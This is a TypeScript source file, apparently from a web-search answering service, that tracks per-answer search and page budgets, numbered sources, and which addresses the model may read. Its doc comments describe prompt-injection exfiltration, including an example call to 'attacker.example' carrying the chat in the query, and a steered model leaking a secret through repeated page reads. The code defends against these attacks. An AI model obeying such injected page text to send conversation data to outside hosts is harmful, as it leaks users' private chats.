import { createHash, randomBytes } from 'node:crypto';
import { AnswerNotFoundError } from './errors.ts';
import { addressesInMessage } from './message-hosts.ts';
import { seenEntryOf } from './seen-addresses.ts';
import { type BudgetName, MemorySessionStore, type SeenEntry, type SessionSnapshot, type SessionStore, answerKey, clientKey } from './session-store.ts';
import { ledgerKey, type LedgerEntry } from './source-ledger.ts';
import { oneLine } from './one-line.ts';
import { hostKey } from './url-rules.ts';

/** Per-answer budgets. */
export interface Budgets {
  /** Searches (backend queries) an answer may run; default 16. */
  searches: number;
  /** Page reads (read calls) an answer may make; default 12. */
  pages: number;
}

/** The budgets of the design: 16 searches and 12 pages per answer. */
export const DEFAULT_BUDGETS: Readonly<Budgets> = { searches: 16, pages: 12 };

/** A budget snapshot, as every search and read response reports it. */
export interface BudgetState {
  searches: { used: number; limit: number };
  pages: { used: number; limit: number };
}

/** Most characters of a source title the ledger keeps. */
const LEDGER_TITLE_CHARS = 200;

/** Options of {@link AnswerSessions}. */
export interface AnswerSessionsOptions {
  /** Where answers live (default: this process's memory, with the bounds below). */
  store?: SessionStore;
  /** Idle time after which an answer expires (default one hour); for the default store. */
  ttlMs?: number;
  /** Most answers kept, least recently used dropped first (default 1,000); for the default store. */
  maxSessions?: number;
  /** Budgets of a new answer. */
  budgets?: Partial<Budgets>;
  /** Most answers one client keeps (default a tenth of `maxSessions`); for the default store. */
  maxSessionsPerClient?: number;
  /** Most addresses one answer may accumulate as seen (default 5,000); for the default store. */
  maxSeenAddresses?: number;
  /** Clock of the default store (default `Date.now`). */
  now?: () => number;
}

/**
 * One answer in progress, as one request sees it: the addresses it has seen (rule 1), its source
 * ledger and its budgets, read from the store when the request opened it. Spending a budget and
 * numbering a source go to the store at once (atomic there); addresses marked seen are written back
 * by {@link save}, before the response, so the answer's next request — on any instance — sees them.
 */
export class AnswerSession {
  /** The random id the browser sends back with every call. */
  readonly id: string;
  /**
   * A short tag derived from the id, for logs: the same for every fetch of this answer, and useless
   * as the id (which unlocks the answer's seen hosts and budgets, so it is never logged).
   */
  readonly logTag: string;
  /** The budgets this answer started with. */
  readonly budgets: Readonly<Budgets>;
  readonly #key: string;
  readonly #store: SessionStore;
  readonly #used: Record<BudgetName, number>;
  readonly #seen: ReadonlySet<string>;
  readonly #hosts: ReadonlySet<string>;
  /** Seen here and not yet written to the store. */
  readonly #marked = new Map<string, SeenEntry>();
  readonly #markedHosts = new Set<string>();

  /** @internal Opened by {@link AnswerSessions}. */
  constructor(id: string, store: SessionStore, snapshot: SessionSnapshot) {
    this.id = id;
    this.logTag = createHash('sha256').update(id).digest('hex').slice(0, 12);
    this.#key = answerKey(id);
    this.#store = store;
    this.budgets = Object.freeze({ ...snapshot.limits });
    this.#used = { ...snapshot.used };
    this.#seen = snapshot.seen;
    this.#hosts = snapshot.hosts;
  }

  /**
   * Adds an address this answer may read: a search result's, one the user wrote, or a link on a page
   * it read. Text that is not an absolute http(s) address is ignored. Written to the store by {@link save}.
   * @param url - an absolute address.
   */
  markSeen(url: string): void {
    const entry = seenEntryOf(url);
    if (!entry || this.#seen.has(entry.digest)) return;
    this.#marked.set(entry.digest, entry);
    this.#markedHosts.add(entry.host);
  }

  /**
   * Whether this exact address (normalised: scheme and host case, default port, trailing slash,
   * fragment) appeared in this answer's search results, the user's message or the links of a page it
   * read.
   * @param url - an absolute address.
   *
   * @remarks Security: rule 1 (only addresses the answer has already seen, verbatim). Threat: data
   * leaking out through the address — a page telling the model to open
   * `https://attacker.example/?q=<the chat>`, or to put the chat in the query of an address on a host
   * the answer has seen (an open redirect there, or the injecting page's own host). An address the
   * model composed or changed is not in this set, whatever its host.
   */
  hasSeen(url: string): boolean {
    const entry = seenEntryOf(url);
    return entry !== undefined && (this.#seen.has(entry.digest) || this.#marked.has(entry.digest));
  }

  /**
   * Whether some address on this host was seen; only for wording a refusal, never for allowing a read.
   * @param host - a host name or IP literal.
   */
  hasSeenHost(host: string): boolean {
    const key = hostKey(host);
    return this.#hosts.has(key) || this.#markedHosts.has(key);
  }

  /**
   * Records pages as read in this answer and says, for the first, whether this is its first read.
   * @param urls - the cited address first, then any other address the read fetched.
   * @returns false when the first address was already read in this answer (nothing should be fetched).
   *
   * @remarks Security: issue 41 (link choice). Which address a steered model reads is a message to that
   * address's server; reading one again, or the same few again and again, would let a page count out a
   * secret in repeats. A repeat is answered from the first read's result instead, so no server sees it.
   */
  async firstRead(...urls: string[]): Promise<boolean> {
    const digests = urls.flatMap((url) => seenEntryOf(url)?.digest ?? []);
    if (digests.length === 0) return true;
    const first = await this.#store.markRead(this.#key, digests);
    if (!first) throw new AnswerNotFoundError();
    return first[0] ?? true;
  }

  /** Writes the addresses marked seen by this request to the store. */
  async save(): Promise<void> {
    if (this.#marked.size === 0) return;
    const entries = [...this.#marked.values()];
    this.#marked.clear();
    await this.#store.addSeen(this.#key, entries);
  }

  /**
   * Takes up to `wanted` searches from the budget and returns how many were granted (0 when spent).
   * @param wanted - searches this call would like to run.
   */
  async takeSearches(wanted: number): Promise<number> {
    return this.#take('searches', wanted);
  }

  /** Takes one page read from the budget; false when it is spent. */
  async takePage(): Promise<boolean> {
    return (await this.#take('pages', 1)) === 1;
  }

  /** Gives back a page read taken with {@link takePage} that read nothing (a refused address). */
  async refundPage(): Promise<void> {
    await this.#take('pages', -1);
  }

  /**
   * Numbers sources, once per address (its fragment ignored): a known address keeps its first
   * number, a new one gets the next; undefined past the ledger's capacity.
   * @param sources - addresses with the title to remember (the first non-empty one is kept).
   */
  async number(sources: readonly { url: string; title?: string }[]): Promise<(number | undefined)[]> {
    if (sources.length === 0) return [];
    // Titles come from pages and search engines and end up in the "Sources found" turn: one line, capped.
    const numbered = await this.#store.number(
      this.#key,
      sources.map((source) => ({ url: ledgerKey(source.url), title: oneLine(source.title ?? '', LEDGER_TITLE_CHARS) })),
    );
    if (!numbered) throw new AnswerNotFoundError();
    return numbered;
  }

  /** The answer's numbered sources, in number order. */
  async sources(): Promise<LedgerEntry[]> {
    const entries = await this.#store.sources(this.#key);
    if (!entries) throw new AnswerNotFoundError();
    return entries;
  }

  /** The budget as used so far (as of this request's last take). */
  budget(): BudgetState {
    return {
      searches: { used: this.#used.searches, limit: this.budgets.searches },
      pages: { used: this.#used.pages, limit: this.budgets.pages },
    };
  }

  /** The line every tool result ends with, e.g. "Searches used 3 of 16; pages read 1 of 12". */
  budgetLine(): string {
    return `Searches used ${this.#used.searches} of ${this.budgets.searches}; pages read ${this.#used.pages} of ${this.budgets.pages}`;
  }

  async #take(budget: BudgetName, wanted: number): Promise<number> {
    const taken = await this.#store.take(this.#key, budget, wanted);
    if (!taken) throw new AnswerNotFoundError();
    this.#used[budget] = taken.used;
    return taken.granted;
  }
}

/**
 * The answers in progress: created from the user's message, found again by id. Where they live and
 * how long is the store's ({@link MemorySessionStore} by default: an idle hour, 1,000 answers).
 */
export class AnswerSessions {
  readonly #store: SessionStore;
  readonly #budgets: Readonly<Budgets>;

  /** @param options - store, budgets, and the default store's bounds and clock. */
  constructor(options: AnswerSessionsOptions = {}) {
    this.#store =
      options.store ??
      new MemorySessionStore({
        ...(options.ttlMs !== undefined ? { ttlMs: options.ttlMs } : {}),
        ...(options.maxSessions !== undefined ? { maxSessions: options.maxSessions } : {}),
        ...(options.maxSessionsPerClient !== undefined ? { maxSessionsPerClient: options.maxSessionsPerClient } : {}),
        ...(options.maxSeenAddresses !== undefined ? { maxSeenAddresses: options.maxSeenAddresses } : {}),
        ...(options.now ? { now: options.now } : {}),
      });
    this.#budgets = Object.freeze({ ...DEFAULT_BUDGETS, ...options.budgets });
  }

  /**
   * Starts an answer for a user message: a fresh random id, the addresses the message holds already seen.
   * @param message - the user's message (only its addresses are kept, not the text).
   * @param client - the address of the client asking (as the rate limit sees it): its answers count
   *   against its own share, so one client cannot push out everyone's (issue 41).
   */
  async create(message: string, client?: string): Promise<AnswerSession> {
    const id = randomBytes(16).toString('base64url');
    const seen = addressesInMessage(message)
      .map(seenEntryOf)
      .filter((entry): entry is SeenEntry => entry !== undefined);
    await this.#store.create(answerKey(id), this.#budgets, seen, client !== undefined ? clientKey(client) : undefined);
    return this.get(id);
  }

  /**
   * The answer with this id, marked as just used.
   * @param id - the id from {@link create}.
   * @throws AnswerNotFoundError when the id is unknown, was dropped, or has expired.
   */
  async get(id: string): Promise<AnswerSession> {
    const snapshot = await this.#store.open(answerKey(id));
    if (!snapshot) throw new AnswerNotFoundError();
    return new AnswerSession(id, this.#store, snapshot);
  }

  /** The budgets each new answer gets. */
  get budgets(): Readonly<Budgets> {
    return this.#budgets;
  }

  /** Where the answers live. */
  get store(): SessionStore {
    return this.#store;
  }
}
